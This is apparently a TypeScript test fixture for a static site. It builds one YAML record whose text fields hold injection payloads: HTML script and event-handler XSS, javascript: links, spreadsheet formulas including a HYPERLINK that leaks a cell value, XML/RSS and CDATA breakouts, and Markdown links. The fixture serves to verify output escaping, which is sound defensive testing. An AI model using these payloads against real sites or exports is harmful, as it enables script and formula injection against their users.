/**
 * A content folder with one record whose every free-text field is hostile to the formats third
 * parties render it in: HTML (feed readers, link previews), JSON inside <script>, XML (a
 * </description>, a CDATA end), spreadsheets (cells starting = + - @) and Markdown. Every value
 * still passes the schema (within its bounds), so the site builds and publishes it: the outputs
 * must keep it text.
 */
import { completeUscc } from '../../../content/schema/index.ts';
import { contentRootWith } from './build-site.ts';

/** The date the site is built as of. */
export const HOSTILE_DATE = '2026-11-21';

/** The record's id. */
export const HOSTILE_ID = '2026q3-black-950';

/** The window flags a hostile value would set if it ran (none may ever be set). */
export const FLAG = '__hostile';

/** The hostile values, as the record holds them. */
export const HOSTILE = {
  name: `<script>window.${FLAG}=1</script>"><img src=x onerror="window.${FLAG}=2">示例输出测试有限公司`,
  code: completeUscc('91000000HX0000950'),
  address: `"><img src=x onerror="window.${FLAG}='address'">示例地址`,
  facts: [
    `=HYPERLINK("https://example.invalid/?x="&A1,"点此")示例事由：<script>window.${FLAG}="facts"</script>`,
    `第二行 </description><description>伪造</description> ]]> <img src=x onerror="window.${FLAG}='facts-img'">`,
    `<a href="javascript:window.${FLAG}='facts-link'">链接</a>\u2028行分隔符之后 <![CDATA[ 注入 ]]> ![图](https://example.invalid/x.png) [链接](javascript:alert(1)) @someone | 表格 |`,
  ].join('\n'),
  legal_basis: `+1+1 《示例条例》第五条 <iframe src="javascript:window.${FLAG}='basis'"></iframe>`,
  authority: `@SUM(1) </title><script>window.${FLAG}="authority"</script>示例机关`,
  document_number: `示<i onclick="window.${FLAG}=5">工</i>发〔2026〕95号`,
  objection: `-2+3 异议事由：<img src=x onerror="window.${FLAG}='note'">\n</item><item><title>伪造条目</title>`,
  reviewer: `<b onmouseover="window.${FLAG}='by'">王某</b>`,
};

const quoted = (s: string) => JSON.stringify(s);

const RECORD = `id: ${HOSTILE_ID}
list: black
batch: 2026-Q3
sample: true
subject:
  kind: enterprise
  name: ${quoted(HOSTILE.name)}
  code: ${HOSTILE.code}
  address: ${quoted(HOSTILE.address)}
region: "210202"
category: wage-arrears
facts: ${quoted(HOSTILE.facts)}
legal_basis: ${quoted(HOSTILE.legal_basis)}
decision:
  authority: ${quoted(HOSTILE.authority)}
  document_number: ${quoted(HOSTILE.document_number)}
  date: 2026-07-01
submitted:
  unit: 法律部
  date: 2026-07-02
approvals:
  - role: review
    by: ${quoted(HOSTILE.reviewer)}
    date: 2026-07-03
  - role: approve
    by: 主席 李某
    date: 2026-07-04
publication:
  start: 2026-07-15
  end: 2029-07-14
history:
  - status: listed
    date: 2026-07-15
  - status: objection
    date: 2026-07-20
    note: ${quoted(HOSTILE.objection)}
  - status: maintained
    date: 2026-07-22
    note: 异议不成立，维持。
`;

/** Writes the content folder and returns its root. */
export function hostileContentRoot(): string {
  return contentRootWith({ [`content/records/black/2026/${HOSTILE_ID}.yaml`]: RECORD });
}
